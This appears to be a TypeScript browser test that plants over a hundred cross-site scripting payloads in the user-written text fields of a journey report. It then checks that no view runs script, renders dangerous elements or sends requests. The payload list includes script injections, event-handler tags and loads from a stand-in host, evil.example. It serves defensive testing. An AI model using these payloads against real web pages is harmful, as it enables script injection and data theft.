/** A hundred payloads in every text of language and data, in every view: nothing runs, and nothing is asked for. */
import type { JourneyReport } from '@parcours/model';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { compared } from '../../charts/test/fixtures/compared.ts';
import { manyGroups } from '../../charts/test/fixtures/many-groups.ts';
import { hostileTexts } from '../../charts/test/hostile-texts.ts';
import { chromiumPath, type PanelBrowser, startPanelBrowser } from './browser.ts';
import { panelModelOf } from './panel-model.ts';

const run = 'window.hit=1';
const fetched = 'https://evil.example/x';
const tags = ['img', 'svg', 'video', 'audio', 'iframe', 'object', 'embed', 'link', 'body', 'input', 'details', 'marquee'];
const handlers = ['onerror', 'onload', 'onfocus autofocus', 'ontoggle open', 'onpointerover'];
const payloads = [
  ...hostileTexts,
  ...tags.flatMap((tag) => handlers.slice(0, 4).map((handler) => `"><${tag} src=x href=${fetched} ${handler}=${run}>`)),
  `<script src=${fetched}></script>`,
  `'-(${run})-'`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script><style>@import "${fetched}";`,
  `]]></text><script>${run}</script>`,
  `javascript:${run}`,
  `<a href="javascript:${run}">x</a>`,
  `<math><mi xlink:href="data:text/html,<script>${run}</script>">`,
  `<use href="${fetched}#x"/>`,
  `<image href="${fetched}"/>`,
  `<meta http-equiv=refresh content="0;url=${fetched}">`,
  `<base href="${fetched}">`,
  `<style>*{background:url(${fetched})}</style>`,
  `${'<'.repeat(50)}script>${run}`,
];

/** Properties with a text that somebody wrote; all others are names, figures and words of the program. */
const WRITTEN = new Set([
  'label',
  'text',
  'texts',
  'scenario',
  'details',
  'options',
  'columns',
  'values',
  'examples',
  'path',
  'respondent',
  'objectives',
  'goals',
  'frustrations',
  'quotes',
  'column',
  'sheet',
  'exception',
  'note',
]);

/** The journey with a payload in each of its texts: of the nth text that at `first` + n. */
function poisoned(journey: JourneyReport, first: number): JourneyReport {
  let at = first;
  const payload = () => payloads[at++ % payloads.length] ?? '';
  const walk = (value: unknown, isWritten: boolean): unknown => {
    if (typeof value === 'string') return isWritten ? payload() : value;
    if (Array.isArray(value)) return value.map((each) => walk(each, isWritten));
    if (value === null || typeof value !== 'object') return value;
    return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, walk(each, WRITTEN.has(key))]));
  };
  return walk(journey, false) as JourneyReport;
}

const STEP = 11;

describe.skipIf(!chromiumPath)('payloads', () => {
  let browser: PanelBrowser;
  beforeAll(async () => {
    browser = await startPanelBrowser();
  });
  afterAll(() => browser?.close());

  test('are texts in every view', async () => {
    expect(payloads.length).toBeGreaterThanOrEqual(100);
    const panel = await browser.open();
    const requests: string[] = [];
    panel.page.on('request', (request) => requests.push(request.url()));
    panel.page.on('dialog', (dialog) => requests.push(dialog.message()));
    const journey = { ...compared, comparisons: [...compared.comparisons, ...manyGroups({ count: 5, spread: 'mixed' }).comparisons] };
    for (let first = 0; first < payloads.length; first += STEP) {
      await panel.send({
        type: 'model',
        model: panelModelOf([poisoned(journey, first)], { hash: String(first), file: payloads[first] ?? '' }),
      });
      for (const view of ['curve', 'compare', 'evidence', 'plan']) {
        await panel.page.locator(`#tab-${view}`).click();
        const found = await panel.page.evaluate(() => ({
          hit: 'hit' in window,
          elements: document.querySelectorAll(
            'main :is(img, script, iframe, object, embed, link, style, base, meta, video, audio, image, use, math, [onerror], [onload], [ontoggle], [href^="javascript:"])',
          ).length,
          isShown: (document.querySelector('main')?.textContent ?? '').includes('window.hit=1'),
        }));
        expect(found, `${view}, ${first}`).toMatchObject({ hit: false, elements: 0 });
        if (view === 'curve') expect(found.isShown).toBe(true);
      }
    }
    expect(requests).toEqual([]);
    expect(panel.complaints).toEqual([]);
    await panel.close();
  }, 120_000);
});
